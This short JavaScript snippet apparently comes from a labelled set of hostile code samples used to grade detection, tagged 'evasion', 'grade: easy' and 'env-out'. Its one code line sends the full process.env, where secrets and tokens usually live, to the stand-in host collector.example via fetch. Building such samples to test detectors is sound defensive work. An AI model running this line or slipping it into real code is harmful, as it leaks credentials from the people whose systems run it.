// evasion: posts process.env with fetch
// grade: easy; does: env-out
fetch("https://collector.example/", { method: "POST", body: JSON.stringify(process.env) });
